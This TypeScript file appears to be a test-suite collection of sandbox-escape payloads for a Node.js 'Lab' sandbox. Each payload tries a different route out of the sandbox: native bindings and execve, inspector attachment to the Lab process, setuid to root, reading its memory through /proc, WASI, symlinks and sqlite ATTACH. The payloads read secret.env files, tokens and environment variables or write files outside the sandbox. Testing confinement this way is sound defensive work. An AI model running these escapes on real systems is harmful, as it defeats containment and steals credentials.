/** What Node can do besides reading and writing files: each of these has been a way around a sandbox somewhere. */
import { type Payload, reaching } from '../payload.ts';

/** A module that exports memory and an empty start function: what WASI asks for. */
const emptyWasm =
  '[0,97,115,109,1,0,0,0,1,4,1,96,0,0,3,2,1,0,5,3,1,0,1,7,19,2,6,109,101,109,111,114,121,2,0,6,95,115,116,97,114,116,0,0,10,4,1,2,0,11]';

export const powers: Payload[] = [
  reaching(
    'binding-spawn',
    'process.binding, past the public modules',
    ['environment', 'process'],
    `
    return String(host.binding('spawn_sync').spawn({ file: '/usr/bin/env', args: ['env'], envPairs: [],
      stdio: [{ type: 'pipe', readable: true, writable: true }, { type: 'pipe', readable: true, writable: true }] }).output);`,
  ),
  reaching(
    'binding-fs',
    'the inner binding of the file system',
    ['file'],
    `
    return String(host.binding('fs').readFileUtf8(where.file, 0));`,
  ),
  reaching(
    'module-load',
    'Module._load and execFileSync',
    ['file', 'process'],
    `
    return String(module('node:module')._load('node:child_process').execFileSync('/bin/cat', [where.file]));`,
  ),
  reaching(
    'execve',
    'this process becomes another program',
    ['file'],
    `host.execve('/bin/cat', ['cat', where.file], {});`,
  ),
  reaching(
    'dlopen',
    'a native addon that was just written',
    ['write'],
    `
    const path = where.outside + '/addon.node';
    module('node:fs').writeFileSync(path, Buffer.from([127, 69, 76, 70]));
    return host.dlopen({ exports: {} }, path);`,
  ),
  reaching(
    'dlopen-of-package',
    'a native addon of an installed package',
    ['file'],
    `
    const fs = module('node:fs');
    const found = fs.globSync(where.tree + '/node_modules/@*/*/*.node')[0];
    host.dlopen({ exports: {} }, found);
    return fs.readFileSync(where.file, 'utf8');`,
  ),
  reaching(
    'inspector-session',
    'the inspector of this very process',
    ['file', 'environment'],
    `
    const session = new (module('node:inspector').Session)();
    session.connect();
    const { result } = await new Promise((resolve) => session.post('Runtime.evaluate', {
      expression: 'process.getBuiltinModule("fs").readFileSync(' + JSON.stringify(where.file) + ', "utf8")' },
      (error: unknown, answer: unknown) => resolve(answer ?? { result: error })) as any);
    return JSON.stringify(result);`,
  ),
  reaching(
    'inspector-port',
    'an inspector that listens',
    ['tcp'],
    `
    module('node:inspector').open(0, '127.0.0.1');
    return (await fetch(module('node:inspector').url().replace('ws:', 'http:').replace(/\\/[^/]*$/, '/json/list'))).text();`,
  ),
  reaching(
    'inspector-of-lab',
    'the signal by which the Lab opens its inspector',
    ['signal', 'token'],
    `
    host._debugProcess(where.labPid);
    await new Promise((resolve) => setTimeout(resolve, 200));
    return (await fetch('http://127.0.0.1:9229/json/list')).text();`,
  ),
  reaching(
    'worker',
    'a thread with the environment of its parent',
    ['file', 'environment', 'write'],
    `
    const { Worker, SHARE_ENV } = module('node:worker_threads');
    const code = 'require("worker_threads").parentPort.postMessage(JSON.stringify(process.env) + require("fs").readFileSync(' + JSON.stringify(where.file) + '))';
    const worker = new Worker(code, { eval: true, env: SHARE_ENV, execArgv: [] });
    return await new Promise((resolve, reject) => worker.on('message', resolve).on('error', reject));`,
  ),
  reaching(
    'wasi',
    'files through WASI',
    ['file', 'token'],
    `
    const { WASI } = module('node:wasi');
    const wasi = new WASI({ version: 'preview1', preopens: { '/': where.outside } });
    const instance = new WebAssembly.Instance(new WebAssembly.Module(new Uint8Array(${emptyWasm})), {});
    wasi.start(instance);
    const memory = new Uint8Array((instance.exports.memory as any).buffer);
    memory.set(Buffer.from('secret.env'), 0);
    wasi.wasiImport.path_open(3, 0, 0, 10, 0, 2n, 0n, 0, 64);
    const fd = new DataView(memory.buffer).getUint32(64, true);
    new DataView(memory.buffer).setUint32(96, 256, true);
    new DataView(memory.buffer).setUint32(100, 200, true);
    wasi.wasiImport.fd_read(fd, 96, 1, 128);
    return Buffer.from(memory.slice(256, 456)).toString();`,
  ),
  reaching(
    'sqlite-attach',
    'a database file outside',
    ['write', 'file'],
    `
    const { DatabaseSync } = module('node:sqlite');
    const database = new DatabaseSync(':memory:');
    database.exec("ATTACH DATABASE '" + where.outside + "/attached.db' AS outside; CREATE TABLE outside.taken (a)");
    return 'attached';`,
  ),
  reaching(
    'sqlite-file',
    'a database by its path',
    ['write'],
    `
    const database = new (module('node:sqlite').DatabaseSync)(where.outside + '/made.db');
    database.exec('CREATE TABLE taken (a)');`,
  ),
  reaching(
    'report',
    'a diagnostic report, written where one likes',
    ['write', 'environment'],
    `
    host.report.writeReport(where.outside + '/report.json');
    return JSON.stringify(host.report.getReport().environmentVariables);`,
  ),
  reaching(
    'heap-snapshot',
    'a heap snapshot, written where one likes',
    ['write'],
    `
    return module('node:v8').writeHeapSnapshot(where.outside + '/heap.heapsnapshot');`,
  ),
  reaching(
    'trace-events',
    'a log of trace events in the present folder',
    ['tree', 'write'],
    `
    module('node:trace_events').createTracing({ categories: ['node.perf', 'v8'] }).enable();
    await new Promise((resolve) => setTimeout(resolve, 50));`,
  ),
  reaching(
    'compile-cache',
    'a cache of compiled code, written where one likes',
    ['write'],
    `
    const code = module('node:module');
    code.enableCompileCache(where.outside + '/cache');
    require('diff');
    code.flushCompileCache();`,
  ),
  reaching(
    'env-file',
    'a file that is read as an environment',
    ['file'],
    `
    host.loadEnvFile(where.file);
    return JSON.stringify(host.env);`,
  ),
  reaching(
    'source-map',
    'a source map that is read when an error is shown',
    ['file'],
    `
    host.setSourceMapsEnabled(true);
    const vm = module('node:vm');
    try { vm.runInThisContext('throw new Error("mapped")\\n//# sourceMappingURL=file://' + where.file, { filename: where.tree + '/mapped.js' }); }
    catch (error) { return String((error as Error).stack) + JSON.stringify(module('node:module').findSourceMap(where.tree + '/mapped.js')); }`,
  ),
  reaching(
    'paths-as-bytes',
    'paths as bytes, with parents',
    ['file'],
    `
    const fs = module('node:fs');
    for (const path of [Buffer.from(where.file), new Uint8Array(Buffer.from(where.tree + '/..' + where.file.replace('/tmp', ''))), new URL('file://' + where.file)]) {
      try { return fs.readFileSync(path, 'utf8'); } catch (error) { console.log((error as Error).message); }
    }`,
  ),
  reaching(
    'link-to-file',
    'a link in the temp folder that leads outside',
    ['file'],
    `
    const fs = module('node:fs');
    fs.symlinkSync(where.file, '/tmp/linked');
    return fs.readFileSync('/tmp/linked', 'utf8');`,
  ),
  reaching(
    'copy-and-glob',
    'the other functions that read: cp, opendir, glob, openAsBlob, createReadStream',
    ['file', 'token'],
    `
    const fs = module('node:fs');
    const ways = [
      () => fs.cpSync(where.outside, '/tmp/copied', { recursive: true }),
      () => String(fs.globSync(where.outside + '/*').map((path: string) => fs.readFileSync(path))),
      async () => (await fs.openAsBlob(where.file)).text(),
      async () => String(await fs.createReadStream(where.file).toArray()),
      () => fs.promises.readFile(where.token, 'utf8'),
      () => String(fs.readFileSync(fs.openSync(where.file, 'r+'))),
    ];
    const got: string[] = [];
    for (const way of ways) { try { got.push(String(await way())); } catch (error) { got.push((error as Error).message); } }
    return got;`,
  ),
  reaching(
    'change-of-folder',
    'chdir, chroot of the mind, and umask',
    ['file', 'tree'],
    `
    host.umask(0);
    host.chdir(where.outside);
    return module('node:fs').readFileSync('secret.env', 'utf8');`,
  ),
  reaching(
    'change-of-user',
    'setuid and setgroups',
    ['file'],
    `
    host.setgroups([0]);
    host.setuid(0);
    return module('node:fs').readFileSync(where.token, 'utf8');`,
  ),
  reaching(
    'memory-of-lab',
    'the memory of the Lab through /proc',
    ['environment', 'token'],
    `
    const fs = module('node:fs');
    const stack = /([0-9a-f]+)-([0-9a-f]+) rw.*\\[stack\\]/.exec(fs.readFileSync('/proc/' + where.labPid + '/maps', 'utf8')) as any;
    const from = parseInt(stack[1], 16), length = parseInt(stack[2], 16) - from;
    const memory = Buffer.alloc(length);
    fs.readSync(fs.openSync('/proc/' + where.labPid + '/mem', 'r'), memory, 0, length, from);
    return (memory.toString('latin1').match(/canary-[\\w-]+/g) ?? []).join(' ');`,
  ),
  reaching(
    'open-files-of-lab',
    'the open files of the Lab through /proc',
    ['token', 'file'],
    `
    const fs = module('node:fs');
    return fs.readdirSync('/proc/' + where.labPid + '/fd').map((name: string) => {
      try { return fs.readlinkSync('/proc/' + where.labPid + '/fd/' + name); } catch (error) { return String(error); }
    }).join(' ') + fs.readFileSync('/proc/' + where.labPid + '/root' + where.token, 'utf8');`,
  ),
];
